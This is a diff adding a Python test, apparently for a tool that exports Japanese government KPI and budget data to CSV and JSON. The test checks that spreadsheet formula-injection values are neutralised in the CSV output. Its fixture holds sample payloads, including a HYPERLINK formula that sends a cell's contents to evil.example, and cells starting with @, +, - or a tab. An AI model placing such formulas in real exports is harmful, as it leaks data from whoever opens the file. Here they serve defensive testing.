@@ -78,3 +78,49 @@ def test_readme_explains_every_column(files):
     readme = files["README.md"].decode("utf-8")
     for name, _ in KPI_FIELDS + BUDGET_FIELDS:
         assert f"`{name}`" in readme
+
+
+INJECTION = '''
+-- kpis.yaml --
+lines:
+  - id: k-rate
+    section: period
+    text: オンライン利用率、2021年度末までに100%
+    kpis:
+      - id: k-rate
+        indicator: '=HYPERLINK("https://evil.example/?"&A1,"詳細")'
+        note: '@SUM(A1:A9)'
+        status: "-2+3"
+        target: {value: 100, unit: "%", by: 2021, by_text: "＋2021年度末までに"}
+-- data/budget.yaml --
+tables:
+  system:
+    title: "\\tタブで始まる表"
+    unit: 億円
+    category_label: "+区分"
+    fiscal_year: 2020
+    rows:
+      - {id: a, label: 整備経費, value: 178}
+      - {id: b, label: 運用等経費, value: 533}
+    total: {label: 合計, value: 711}
+'''
+
+
+def test_csv_cells_cannot_become_formulas_and_the_json_keeps_the_text(make_content):
+    from dgdocs.load import load
+
+    doc = load(make_content(INJECTION))
+    files = render_data(doc)
+    kpis = list(csv.DictReader(io.StringIO(files["kpis.csv"].decode("utf-8-sig"))))[0]
+    assert kpis["indicator"] == '\'=HYPERLINK("https://evil.example/?"&A1,"詳細")'
+    assert kpis["note"] == "'@SUM(A1:A9)" and kpis["status"] == "'-2+3"
+    assert kpis["target_deadline"] == "'＋2021年度末までに"
+    assert kpis["target_value"] == "100"  # numbers are never touched
+    for rec in csv.DictReader(io.StringIO(files["budget.csv"].decode("utf-8-sig"))):
+        assert rec["table_title"] == "'\tタブで始まる表" and rec["category_label"] == "'+区分"
+        assert not rec["value"].startswith("'")
+    data = json.loads(files["kpis.json"])["kpis"][0]
+    assert data["indicator"].startswith("=HYPERLINK(") and data["note"] == "@SUM(A1:A9)"
+    for name in ("kpis.csv", "budget.csv"):
+        for row in csv.reader(io.StringIO(files[name].decode("utf-8-sig"))):
+            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) for cell in row)
